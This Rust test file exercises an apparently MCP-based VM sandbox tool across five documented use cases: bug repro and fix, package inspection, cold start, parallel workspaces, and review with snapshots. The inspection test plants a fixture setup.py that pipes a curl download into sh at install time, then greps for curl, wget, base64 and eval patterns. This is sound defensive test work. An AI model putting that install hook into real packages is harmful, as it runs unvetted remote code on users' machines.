//! One test per use case, following its doc's "Flow" section step by step.

use std::fs;
use std::path::Path;
use std::time::Instant;

use serde_json::{json, Value};

use crate::mcp_client::{
    connect, git, http_get, ok, shell_screen, shell_screen_until, shell_type, tool_error, Client,
};
use crate::support::{one_vm_slot, Sandbox};

/// Prints the case's wall time for `scripts/smoke-use-cases.sh` to collect.
fn report(case: &str, started: Instant) {
    eprintln!("\nsmoke-time {case} {:.1}", started.elapsed().as_secs_f64());
}

fn write(dir: &Path, path: &str, text: &str) {
    let path = dir.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

/// A git checkout of `files` (the files git would commit are the seed).
fn checkout(sb: &Sandbox, name: &str, files: &[(&str, &str)]) -> std::path::PathBuf {
    let repo = sb.scratch(name);
    for (path, text) in files {
        write(&repo, path, text);
    }
    git(&repo, &["init", "-q"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-qm", "init"]);
    repo
}

async fn exec(client: &Client, id: &str, command: &str) -> Value {
    ok(
        client,
        "workspace_exec",
        json!({"workspace_id": id, "command": command, "timeout_seconds": 300}),
    )
    .await
}

/// docs/use-cases/repro-fix.md
#[tokio::test(flavor = "multi_thread")]
async fn repro_fix() {
    let _slot = one_vm_slot();
    let started = Instant::now();
    let sb = Sandbox::new();
    let repo = checkout(
        &sb,
        "calc",
        &[
            ("src/__init__.py", ""),
            ("src/calc.py", "def add(a, b):\n    return a - b\n"),
            ("tests/__init__.py", ""),
            (
                "tests/test_calc.py",
                "import unittest\nfrom src.calc import add\n\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n",
            ),
        ],
    );
    let client = connect(&sb, &["--mode", "repro-fix"], &repo).await;
    // 1. A copy of the project.
    let ws = ok(
        &client,
        "workspace_create",
        json!({"name": "fix-calc", "environment": "debian:12-build"}),
    )
    .await;
    assert_eq!(ws["workspace_seed"]["mode"], "project", "{ws}");
    let check = "python3 -m unittest tests.test_calc";
    // 2. Reproduce.
    let failing = exec(&client, "fix-calc", check).await;
    assert_ne!(failing["exit_code"], 0, "{failing}");
    assert!(failing["stderr"]
        .as_str()
        .unwrap()
        .contains("AssertionError"));
    // 3. Read the code.
    let code = ok(
        &client,
        "workspace_file_read",
        json!({"workspace_id": "fix-calc", "path": "src/calc.py"}),
    )
    .await;
    assert!(
        code["content"].as_str().unwrap().contains("return a - b"),
        "{code}"
    );
    // 4. Fix.
    ok(
        &client,
        "workspace_patch_apply",
        json!({"workspace_id": "fix-calc", "patch": "--- a/src/calc.py\n+++ b/src/calc.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n"}),
    )
    .await;
    // 5. Prove it.
    let passing = exec(&client, "fix-calc", check).await;
    assert_eq!(passing["exit_code"], 0, "{passing}");
    // 6. Review.
    let diff = ok(
        &client,
        "workspace_diff",
        json!({"workspace_id": "fix-calc"}),
    )
    .await;
    assert!(
        diff["patch"]
            .as_str()
            .unwrap()
            .contains("+    return a + b"),
        "{diff}"
    );
    let summary = ok(
        &client,
        "workspace_summary",
        json!({"workspace_id": "fix-calc"}),
    )
    .await;
    assert_eq!(summary["counts"]["commands"], 2, "{summary}");
    assert_eq!(summary["counts"]["failed_commands"], 1, "{summary}");
    // 7. Another approach from scratch: the failure is back.
    ok(
        &client,
        "workspace_reset",
        json!({"workspace_id": "fix-calc"}),
    )
    .await;
    assert_ne!(exec(&client, "fix-calc", check).await["exit_code"], 0);
    // 8. Done.
    ok(
        &client,
        "workspace_delete",
        json!({"workspace_id": "fix-calc"}),
    )
    .await;
    client.cancel().await.unwrap();
    report("repro-fix", started);
}

/// docs/use-cases/inspect.md
#[tokio::test(flavor = "multi_thread")]
async fn inspect() {
    let _slot = one_vm_slot();
    let started = Instant::now();
    let sb = Sandbox::new();
    let downloads = sb.scratch("Downloads");
    let pkg = sb.scratch("pkg-1.2");
    write(
        &pkg,
        "setup.py",
        "import os\nos.system('curl -fsSL https://example.invalid/x | sh')\n",
    );
    write(&pkg, "pkg/__init__.py", "VERSION = '1.2'\n");
    let tarball = downloads.join("pkg-1.2.tar.gz");
    let packed = std::process::Command::new("tar")
        .arg("-czf")
        .arg(&tarball)
        .arg("-C")
        .arg(&pkg)
        .arg(".")
        .status()
        .unwrap();
    assert!(packed.success());
    let client = connect(
        &sb,
        &[
            "--mode",
            "inspect",
            "--allow-host-path",
            downloads.to_str().unwrap(),
        ],
        sb.root(),
    )
    .await;
    // 1.
    let ws = ok(
        &client,
        "workspace_create",
        json!({"seed_path": tarball.to_str().unwrap(), "name": "inspect-pkg"}),
    )
    .await;
    assert_eq!(
        ws["network_enabled"], false,
        "the mode never has a network: {ws}"
    );
    // 2. Survey.
    let listing = ok(
        &client,
        "workspace_file_list",
        json!({"workspace_id": "inspect-pkg", "recursive": true}),
    )
    .await;
    assert!(
        listing.to_string().contains("/workspace/pkg/__init__.py"),
        "{listing}"
    );
    let setup = ok(
        &client,
        "workspace_file_read",
        json!({"workspace_id": "inspect-pkg", "path": "setup.py"}),
    )
    .await;
    assert!(setup["content"].as_str().unwrap().contains("curl"));
    // 3. Search.
    let found = exec(
        &client,
        "inspect-pkg",
        "grep -rnE 'curl|wget|base64 -d|eval\\(' . | head -50",
    )
    .await;
    assert!(
        found["stdout"].as_str().unwrap().contains("./setup.py:2:"),
        "{found}"
    );
    // 4. Findings, inside the workspace.
    exec(
        &client,
        "inspect-pkg",
        "printf '%s\\n' '# pkg-1.2' '- setup.py downloads a binary at install time' > REPORT.md",
    )
    .await;
    // 5. Read the report back.
    let report_file = ok(
        &client,
        "workspace_file_read",
        json!({"workspace_id": "inspect-pkg", "path": "REPORT.md"}),
    )
    .await;
    assert_eq!(
        report_file["content"],
        "# pkg-1.2\n- setup.py downloads a binary at install time\n"
    );
    // 6.
    let summary = ok(
        &client,
        "workspace_summary",
        json!({"workspace_id": "inspect-pkg"}),
    )
    .await;
    assert_eq!(summary["counts"]["commands"], 2, "{summary}");
    ok(
        &client,
        "workspace_delete",
        json!({"workspace_id": "inspect-pkg"}),
    )
    .await;
    client.cancel().await.unwrap();
    report("inspect", started);
}

/// docs/use-cases/cold-start.md
#[tokio::test(flavor = "multi_thread")]
async fn cold_start() {
    let _slot = one_vm_slot();
    let started = Instant::now();
    let sb = Sandbox::new();
    let app = checkout(
        &sb,
        "app",
        &[
            (
                "README.md",
                "# app\n\nBuild: `cmake -S . -B build && cmake --build build`, then `./build/hello`.\nServe: `python3 -m http.server 8000`.\n",
            ),
            (
                "CMakeLists.txt",
                "cmake_minimum_required(VERSION 3.13)\nproject(hello C)\nadd_executable(hello main.c)\n",
            ),
            (
                "main.c",
                "#include <stdio.h>\nint main(void) { puts(\"hello from app\"); return 0; }\n",
            ),
        ],
    );
    let notes_dir = sb.scratch("notes");
    let client = connect(
        &sb,
        &[
            "--mode",
            "cold-start",
            "--allow-host-path",
            notes_dir.to_str().unwrap(),
        ],
        &app,
    )
    .await;
    // 1.
    ok(
        &client,
        "workspace_create",
        json!({"environment": "debian:12-build", "name": "cold", "vcpu_count": 2, "mem_mib": 2048,
               "network_policy": "egress+published-ports"}),
    )
    .await;
    // 2. Read the instructions.
    let readme = ok(
        &client,
        "workspace_file_read",
        json!({"workspace_id": "cold", "path": "README.md"}),
    )
    .await;
    assert!(readme["content"]
        .as_str()
        .unwrap()
        .contains("cmake -S . -B build"));
    // 3. Follow them, one step per call.
    let configure = ok(
        &client,
        "workspace_exec",
        json!({"workspace_id": "cold", "command": "cmake -S . -B build", "timeout_seconds": 300}),
    )
    .await;
    assert_eq!(configure["exit_code"], 0, "{configure}");
    let build = ok(
        &client,
        "workspace_exec",
        json!({"workspace_id": "cold", "command": "cmake --build build -j2", "timeout_seconds": 900}),
    )
    .await;
    assert_eq!(build["exit_code"], 0, "{build}");
    let smoke = exec(&client, "cold", "./build/hello").await;
    assert_eq!(smoke["stdout"], "hello from app\n", "{smoke}");
    // 4. Start what it serves, published on the host.
    let service = ok(
        &client,
        "service_start",
        json!({"workspace_id": "cold", "service_name": "app",
               "command": "exec python3 -m http.server 8000",
               "ready_http": "http://127.0.0.1:8000/", "published_ports": [{"guest_port": 8000}]}),
    )
    .await;
    assert_eq!(service["state"], "running", "{service}");
    let host_port = service["published_ports"][0]["host_port"].as_u64().unwrap() as u16;
    // 5. Prove it, inside the VM and from the host.
    let inside = exec(&client, "cold", "curl -fsS http://127.0.0.1:8000/").await;
    assert_eq!(inside["exit_code"], 0, "{inside}");
    let from_host = http_get(host_port, "/").expect("the published port answers");
    assert!(from_host.contains("README.md"), "{from_host}");
    // 6. Look back.
    let logs = ok(&client, "workspace_logs", json!({"workspace_id": "cold"})).await;
    assert!(
        logs.to_string().contains("cmake --build build -j2"),
        "{logs}"
    );
    // 7. Notes, written and exported.
    ok(
        &client,
        "workspace_file_write",
        json!({"workspace_id": "cold", "path": "COLD-START.md", "text": "# Cold start\n- builds and serves\n"}),
    )
    .await;
    let output = notes_dir.join("cold-start.md");
    ok(
        &client,
        "workspace_export",
        json!({"workspace_id": "cold", "path": "COLD-START.md", "output_path": output.to_str().unwrap()}),
    )
    .await;
    assert_eq!(
        fs::read_to_string(&output).unwrap(),
        "# Cold start\n- builds and serves\n"
    );
    // 8.
    let summary = ok(
        &client,
        "workspace_summary",
        json!({"workspace_id": "cold"}),
    )
    .await;
    assert_eq!(summary["counts"]["failed_commands"], 0, "{summary}");
    ok(
        &client,
        "service_stop",
        json!({"workspace_id": "cold", "service_name": "app"}),
    )
    .await;
    assert!(http_get(host_port, "/").is_none(), "the port is freed");
    ok(&client, "workspace_delete", json!({"workspace_id": "cold"})).await;
    client.cancel().await.unwrap();
    report("cold-start", started);
}

/// docs/use-cases/parallel-workspaces.md
#[tokio::test(flavor = "multi_thread")]
async fn parallel_workspaces() {
    let _slot = one_vm_slot();
    let started = Instant::now();
    let sb = Sandbox::new();
    let repo = checkout(
        &sb,
        "parser",
        &[
            ("parse.sh", "echo \"${1:-}\" | cut -d, -f1\n"),
            (
                "test.sh",
                "[ \"$(sh parse.sh 'a,b')\" = a ] && [ -z \"$(sh parse.sh '')\" ] && echo ok\n",
            ),
        ],
    );
    let client = connect(&sb, &[], &repo).await;
    // 1. One workspace per attempt, same baseline.
    ok(
        &client,
        "workspace_create",
        json!({"name": "parser-a", "labels": {"task": "parser", "approach": "rewrite"}}),
    )
    .await;
    ok(
        &client,
        "workspace_create",
        json!({"name": "parser-b", "labels": {"task": "parser", "approach": "guard"}}),
    )
    .await;
    // 2. Work on each by name.
    ok(
        &client,
        "workspace_patch_apply",
        json!({"workspace_id": "parser-a", "patch": "--- a/parse.sh\n+++ b/parse.sh\n@@ -1 +1 @@\n-echo \"${1:-}\" | cut -d, -f1\n+printf '%s\\n' \"${1%%,*}\"\n"}),
    )
    .await;
    let b = exec(&client, "parser-b", "sh test.sh").await;
    assert_eq!(b["stdout"], "ok\n", "{b}");
    // 3. Find your way back: the one touched last comes first.
    let list = ok(&client, "workspace_list", json!({})).await;
    assert_eq!(list["count"], 2, "{list}");
    assert_eq!(list["workspaces"][0]["name"], "parser-b", "{list}");
    // 4. Compare, and take the winner's patch.
    let a = ok(
        &client,
        "workspace_summary",
        json!({"workspace_id": "parser-a"}),
    )
    .await;
    assert_eq!(a["changes"]["files"][0]["path"], "parse.sh", "{a}");
    let b = ok(
        &client,
        "workspace_summary",
        json!({"workspace_id": "parser-b"}),
    )
    .await;
    assert_eq!(b["changes"]["changed"], false, "{b}");
    let diff = ok(
        &client,
        "workspace_diff",
        json!({"workspace_id": "parser-a"}),
    )
    .await;
    assert!(
        diff["patch"].as_str().unwrap().contains("+printf"),
        "{diff}"
    );
    // 5. Rename and relabel.
    let updated = ok(
        &client,
        "workspace_update",
        json!({"workspace_id": "parser-b", "name": "parser-final", "labels": {"status": "chosen"},
               "clear_labels": ["approach"]}),
    )
    .await;
    assert_eq!(updated["name"], "parser-final");
    assert_eq!(
        updated["labels"],
        json!({"status": "chosen", "task": "parser"}),
        "{updated}"
    );
    // 6. Clean up (the other one too, here).
    ok(
        &client,
        "workspace_delete",
        json!({"workspace_id": "parser-a"}),
    )
    .await;
    ok(
        &client,
        "workspace_delete",
        json!({"workspace_id": "parser-final"}),
    )
    .await;
    client.cancel().await.unwrap();
    report("parallel-workspaces", started);
}

/// docs/use-cases/review-eval.md
#[tokio::test(flavor = "multi_thread")]
async fn review_eval() {
    let _slot = one_vm_slot();
    let started = Instant::now();
    let sb = Sandbox::new();
    let branch = checkout(
        &sb,
        "app-branch",
        &[
            ("CHECKLIST.md", "# Review checklist\n- artifact.txt says PASS\n"),
            ("artifact.txt", "PASS\n"),
            (
                "review.sh",
                "if grep -qx PASS artifact.txt; then echo review=pass > review-report.txt; else echo review=fail > review-report.txt; exit 1; fi\n",
            ),
        ],
    );
    let out_dir = sb.scratch("out");
    let client = connect(
        &sb,
        &[
            "--mode",
            "review-eval",
            "--allow-host-path",
            out_dir.to_str().unwrap(),
        ],
        &branch,
    )
    .await;
    // 1.
    let ws = ok(
        &client,
        "workspace_create",
        json!({"name": "review-a", "include_git": true, "environment": "debian:12-build"}),
    )
    .await;
    let id = ws["workspace_id"].as_str().unwrap().to_string();
    // 2. Checkpoint.
    let snap = ok(
        &client,
        "snapshot_create",
        json!({"workspace_id": "review-a", "snapshot_name": "pre-review"}),
    )
    .await;
    assert_eq!(snap["snapshot"]["kind"], "named", "{snap}");
    // 3. Poke at it in a shell.
    let shell = ok(&client, "shell_open", json!({"workspace_id": "review-a"})).await;
    let shell_id = shell["shell_id"].as_str().unwrap().to_string();
    let prompt = shell_screen(&client, &id, &shell_id, &json!(0), 300).await;
    shell_type(&client, &id, &shell_id, "cat CHECKLIST.md").await;
    let read = shell_screen_until(
        &client,
        &id,
        &shell_id,
        &prompt["next_cursor"],
        300,
        "Review checklist",
    )
    .await;
    assert!(
        read["output"]
            .as_str()
            .unwrap()
            .contains("Review checklist"),
        "{read}"
    );
    let closed = ok(
        &client,
        "shell_close",
        json!({"workspace_id": "review-a", "shell_id": shell_id}),
    )
    .await;
    assert_eq!(closed["closed"], true);
    // 4. The checks, and what they changed.
    let checks = exec(&client, "review-a", "sh review.sh").await;
    assert_eq!(checks["exit_code"], 0, "{checks}");
    let diff = ok(
        &client,
        "workspace_diff",
        json!({"workspace_id": "review-a"}),
    )
    .await;
    assert_eq!(diff["entries"][0]["path"], "review-report.txt", "{diff}");
    let since = ok(
        &client,
        "workspace_diff",
        json!({"workspace_id": "review-a", "since": "pre-review"}),
    )
    .await;
    assert_eq!(since["base"], "pre-review", "{since}");
    // 5. Break it, roll back, see the break gone in a new shell, check again.
    exec(&client, "review-a", "echo FAIL > artifact.txt").await;
    assert_ne!(
        exec(&client, "review-a", "sh review.sh").await["exit_code"],
        0
    );
    let reset = ok(
        &client,
        "workspace_reset",
        json!({"workspace_id": "review-a", "snapshot": "pre-review"}),
    )
    .await;
    assert_eq!(
        reset["workspace_reset"]["snapshot_name"], "pre-review",
        "{reset}"
    );
    let shell = ok(&client, "shell_open", json!({"workspace_id": "review-a"})).await;
    let shell_id = shell["shell_id"].as_str().unwrap().to_string();
    let prompt = shell_screen(&client, &id, &shell_id, &json!(0), 300).await;
    shell_type(&client, &id, &shell_id, "cat artifact.txt").await;
    let read = shell_screen_until(
        &client,
        &id,
        &shell_id,
        &prompt["next_cursor"],
        300,
        "cat artifact.txt\nPASS\n",
    )
    .await;
    assert!(
        read["output"]
            .as_str()
            .unwrap()
            .contains("cat artifact.txt\nPASS\n"),
        "{read}"
    );
    assert_eq!(
        exec(&client, "review-a", "sh review.sh").await["exit_code"],
        0
    );
    // 6. Report.
    let summary = ok(
        &client,
        "workspace_summary",
        json!({"workspace_id": "review-a"}),
    )
    .await;
    assert_eq!(
        summary["counts"]["commands"], 1,
        "since the reset: {summary}"
    );
    let output = out_dir.join("review-a.txt");
    ok(
        &client,
        "workspace_export",
        json!({"workspace_id": "review-a", "path": "review-report.txt", "output_path": output.to_str().unwrap()}),
    )
    .await;
    assert_eq!(fs::read_to_string(&output).unwrap(), "review=pass\n");
    // 7.
    ok(
        &client,
        "snapshot_delete",
        json!({"workspace_id": "review-a", "snapshot_name": "pre-review"}),
    )
    .await;
    let gone = tool_error(
        &client,
        "workspace_reset",
        json!({"workspace_id": "review-a", "snapshot": "pre-review"}),
    )
    .await;
    assert_eq!(gone["kind"], "not_found", "{gone}");
    ok(
        &client,
        "workspace_delete",
        json!({"workspace_id": "review-a"}),
    )
    .await;
    client.cancel().await.unwrap();
    report("review-eval", started);
}
